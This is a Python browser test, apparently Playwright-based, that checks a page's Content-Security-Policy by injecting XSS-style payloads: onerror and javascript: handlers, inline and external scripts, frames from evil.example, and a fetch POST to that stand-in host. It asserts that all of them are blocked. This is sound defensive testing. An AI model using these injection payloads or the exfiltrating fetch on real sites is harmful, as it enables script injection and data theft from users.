"""The Content-Security-Policy in a real Chromium: the page works under it, and what came with a text does not run."""

from __future__ import annotations

from typing import Any

import pytest

pytest.importorskip("playwright")

from tests.browser.test_page import PASSAGES, rerank

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

# As if a text had become markup after all.
INTRUDE = """async () => {
  const broken = [];
  document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));
  const place = document.body.appendChild(document.createElement('div'));
  place.innerHTML = '<img src="data:," onerror="window.PWN=1"><a href="javascript:window.PWN=1">a</a>' +
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>' +
    '<img src="https://evil.example/a.png">';
  place.querySelector('a').click();
  const script = document.createElement('script');
  script.textContent = 'window.PWN=1';
  place.append(script);
  const foreign = document.createElement('script');
  foreign.src = 'https://evil.example/a.js';
  place.append(foreign);
  const told = await fetch('https://evil.example/', {method: 'POST', body: 'text'}).then(() => 'sent', () => 'refused');
  await new Promise((done) => setTimeout(done, 500));
  return [window.PWN ?? null, told, [...new Set(broken)].sort()];
}"""


def test_the_policy_stops_scripts_that_came_with_a_text_and_the_page_works_under_it(server: Any, browser: Any) -> None:
    context = browser.new_context(viewport={"width": 1440, "height": 900}, locale="en-US")
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda said: complaints.append(said.text) if said.type in ("error", "warning") else None)
    page.goto(server.url)
    page.wait_for_function("() => document.documentElement.dataset.ready === 'yes'")
    rerank(page, "red panda", PASSAGES)
    assert complaints == []

    ran, told, broken = page.evaluate(INTRUDE)

    assert (ran, told) == (None, "refused")
    assert {"script-src-attr", "script-src-elem", "connect-src", "img-src", "frame-src", "object-src"} <= set(broken)
    context.close()
